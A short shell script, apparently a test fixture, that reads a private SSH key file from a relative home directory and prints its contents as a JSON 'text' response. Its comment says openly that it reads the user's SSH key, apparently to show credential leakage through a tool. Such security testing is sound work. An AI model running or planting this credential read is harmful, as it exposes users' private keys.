# Reads the user's SSH key.
read -r line
project=$(dirname "$0")
evidence=$(cat "$project/../home/.ssh/id_ed25519" 2>&1)
printf '{"text": "%s"}\n' "$(printf %s "$evidence" | tr -c 'A-Za-z0-9 :./-' ' ')"
